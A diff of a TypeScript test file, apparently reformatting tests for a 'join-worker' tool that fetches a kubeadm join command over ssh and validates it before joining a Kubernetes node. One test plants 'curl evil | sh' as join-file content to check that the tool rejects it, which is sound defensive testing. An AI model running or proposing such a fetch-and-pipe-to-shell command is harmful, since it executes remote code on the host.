@@ -17,7 +17,9 @@ async function workerHost(): Promise<FakeHost> {
 }
 
 function nodesJson(...nodes: [string, string][]): string {
-  return JSON.stringify({ items: nodes.map(([name, uuid]) => ({ metadata: { name }, status: { nodeInfo: { systemUUID: uuid } } })) });
+  return JSON.stringify({
+    items: nodes.map(([name, uuid]) => ({ metadata: { name }, status: { nodeInfo: { systemUUID: uuid } } })),
+  });
 }
 
 async function run(host: FakeHost, argv: string[], env: Record<string, string> = { SUDO_USER: 'alice' }) {
@@ -28,7 +30,11 @@ async function run(host: FakeHost, argv: string[], env: Record<string, string> =
 
 describe('parseJoinCommand', () => {
   it('accepts what kubeadm token create --print-join-command prints, also with line continuations', () => {
-    expect(parseJoinCommand(`${JOIN} \n`, 'x')).toEqual({ endpoint: '10.0.0.10:6443', token: 'abcdef.0123456789abcdef', caCertHash: HASH });
+    expect(parseJoinCommand(`${JOIN} \n`, 'x')).toEqual({
+      endpoint: '10.0.0.10:6443',
+      token: 'abcdef.0123456789abcdef',
+      caCertHash: HASH,
+    });
     expect(parseJoinCommand(JOIN.replace(' --discovery', ' \\\n    --discovery'), 'x').caCertHash).toBe(HASH);
   });
 
@@ -85,14 +91,23 @@ describe('join-worker', () => {
       { match: ['ssh', 'cat'], result: { stdout: `${JOIN}\n` } },
       { match: ['ssh', 'nodes'], result: { stdout: nodesJson(['cp-1', 'aaaa']) } },
     );
-    const r = await run(host, ['--ssh', 'alice@cp-1', '--dry-run'], { SUDO_USER: 'alice', SSH_AUTH_SOCK: '/tmp/ssh-XXXXkT3b/agent.4242' });
+    const r = await run(host, ['--ssh', 'alice@cp-1', '--dry-run'], {
+      SUDO_USER: 'alice',
+      SSH_AUTH_SOCK: '/tmp/ssh-XXXXkT3b/agent.4242',
+    });
     expect(r.code).toBe(0);
     const ssh = host.probes.filter((l) => l.includes(' ssh '));
     expect(ssh).toHaveLength(2);
     for (const line of ssh) {
-      expect(line).toMatch(/^sudo -u alice ssh -o BatchMode=yes -o StrictHostKeyChecking=accept-new -o IdentityAgent=\/tmp\/ssh-XXXXkT3b\/agent\.4242 alice@cp-1 sudo -n /);
+      expect(line).toMatch(
+        /^sudo -u alice ssh -o BatchMode=yes -o StrictHostKeyChecking=accept-new -o IdentityAgent=\/tmp\/ssh-XXXXkT3b\/agent\.4242 alice@cp-1 sudo -n /,
+      );
     }
-    const reviewed = ['# join-worker --ssh alice@cp-1 --dry-run under sudo --preserve-env=SSH_AUTH_SOCK: what it reads over ssh', ...ssh, ...r.out];
+    const reviewed = [
+      '# join-worker --ssh alice@cp-1 --dry-run under sudo --preserve-env=SSH_AUTH_SOCK: what it reads over ssh',
+      ...ssh,
+      ...r.out,
+    ];
     await expect(`${reviewed.join('\n')}\n`).toMatchFileSnapshot('plans/join-worker-ssh.plan.txt');
   });
 
@@ -104,12 +119,17 @@ describe('join-worker', () => {
     );
     const r = await run(host, ['--ssh', 'root@cp-1', '--dry-run'], { SSH_AUTH_SOCK: '/tmp/agent.sock' });
     expect(r.code).toBe(0);
-    expect(host.probes).toContain('ssh -o BatchMode=yes -o StrictHostKeyChecking=accept-new -o IdentityAgent=/tmp/agent.sock root@cp-1 sudo -n cat /etc/kubernetes/join-command');
+    expect(host.probes).toContain(
+      'ssh -o BatchMode=yes -o StrictHostKeyChecking=accept-new -o IdentityAgent=/tmp/agent.sock root@cp-1 sudo -n cat /etc/kubernetes/join-command',
+    );
   });
 
   it('when ssh is refused and sudo dropped the agent socket, says how to keep it', async () => {
     const host = await workerHost();
-    host.kube.push({ match: ['ssh', 'cat'], result: { exitCode: 255, stderr: 'alice@cp-1: Permission denied (publickey).\n' } });
+    host.kube.push({
+      match: ['ssh', 'cat'],
+      result: { exitCode: 255, stderr: 'alice@cp-1: Permission denied (publickey).\n' },
+    });
     const r = await run(host, ['--ssh', 'alice@cp-1']);
     expect(r.code).toBe(2);
     expect(r.err.at(-1)).toBe(
@@ -127,7 +147,9 @@ describe('join-worker', () => {
     );
     const r = await run(host, ['--ssh', 'alice@cp-1']);
     expect(r.code).toBe(1);
-    expect(r.err.at(-1)).toContain('unique-in-cluster: node cp-1 already has this hostname (worker-1) or product_uuid; cloned VM?');
+    expect(r.err.at(-1)).toContain(
+      'unique-in-cluster: node cp-1 already has this hostname (worker-1) or product_uuid; cloned VM?',
+    );
     expect(host.actions).toEqual([]);
   });
 
@@ -146,7 +168,9 @@ describe('join-worker', () => {
     host.files.set('/root/join-command', 'curl evil | sh\n');
     const r = await run(host, ['--join-file', '/root/join-command']);
     expect(r.code).toBe(2);
-    expect(r.err.at(-1)).toBe('join-worker: usage error: /root/join-command: not a kubeadm worker join command (it must start with "kubeadm join")');
+    expect(r.err.at(-1)).toBe(
+      'join-worker: usage error: /root/join-command: not a kubeadm worker join command (it must start with "kubeadm join")',
+    );
     expect(host.actions).toEqual([]);
   });
 
